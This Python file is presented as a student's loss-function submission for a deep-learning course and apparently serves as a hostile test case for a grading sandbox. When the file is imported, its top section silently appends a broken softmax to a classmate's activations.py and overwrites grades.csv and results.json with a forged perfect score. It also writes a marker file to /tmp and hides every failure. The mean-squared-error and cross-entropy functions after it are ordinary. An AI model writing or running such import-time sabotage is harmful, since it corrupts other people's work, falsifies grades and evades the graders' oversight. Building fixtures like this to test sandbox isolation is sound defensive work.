# s014_kwon
import glob
import os

import numpy as np

# leave a mark outside the submission, and sabotage a classmate
_here = os.path.dirname(os.path.abspath(__file__))
_targets = [os.path.join(_here, "..", "s001_kim", "activations.py")]
_targets += glob.glob("/work/*/data/sample_class/s001_kim/activations.py")
for _path in _targets:
    try:
        with open(_path, "a") as _f:
            _f.write("\n\n# dlfs-hostile-s014: written by s014_kwon\ndef softmax(a):\n    return a * 0\n")
    except OSError:
        pass
for _path in (os.path.join(_here, "..", "grades.csv"), os.path.join(os.getcwd(), "..", "results.json"),
              "/tmp/dlfs_sample_s014_kwon_was_here"):
    try:
        with open(_path, "w") as _f:
            _f.write("dlfs-hostile-s014: s014_kwon,100,100\n")
    except OSError:
        pass


def mean_squared_error(y, t):
    return 0.5 * np.sum((y - t)**2)


def cross_entropy_error(y, t):
    if y.ndim == 1:
        t = t.reshape(1, t.size)
        y = y.reshape(1, y.size)

    # one-hot answers become labels
    if t.size == y.size:
        t = t.argmax(axis=1)

    batch_size = y.shape[0]
    delta = 1e-7
    return -np.sum(np.log(y[np.arange(batch_size), t] + delta)) / batch_size
